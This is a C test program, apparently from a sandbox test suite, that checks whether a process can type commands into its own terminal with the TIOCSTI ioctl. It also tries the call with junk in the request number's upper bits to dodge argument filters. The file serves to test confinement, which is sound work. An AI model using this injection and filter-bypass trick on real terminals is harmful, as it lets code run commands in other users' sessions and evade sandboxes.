/* Types a command into the terminal it runs on: TIOCSTI and TIOCLINUX, with garbage in the high word of the command. */
#include "../attack.h"
#include <sys/ioctl.h>
#include <termios.h>

int main(void)
{
    int pair[2] = {posix_openpt(O_RDWR | O_NOCTTY), -1}, status;
    char command[4] = "id\n", got[8] = "";
    grantpt(pair[0]);
    unlockpt(pair[0]);
    pid_t pid = fork();
    if (!pid) {
        struct termios raw;
        setsid();
        pair[1] = open(ptsname(pair[0]), O_RDWR | O_NONBLOCK);
        ioctl(pair[1], TIOCSCTTY, 0);
        tcgetattr(pair[1], &raw);
        raw.c_lflag &= ~(ICANON | ECHO);
        tcsetattr(pair[1], TCSANOW, &raw);
        for (int i = 0; i < 3; i++) {
            syscall(SYS_ioctl, pair[1], TIOCSTI, command + i);
            syscall(SYS_ioctl, pair[1], 0x7700000000L | TIOCSTI, command + i);
        }
        _exit(read(pair[1], got, sizeof got) <= 0);
    }
    waitpid(pid, &status, 0);
    int fd = open("/proc/sys/dev/tty/legacy_tiocsti", O_RDONLY);
    char allowed = '1';
    read(fd, &allowed, 1);
    if (status && allowed == '0' && geteuid())
        lacks("TIOCSTI for ordinary users: dev.tty.legacy_tiocsti is 0");
    end(!status, "nothing was typed");
}
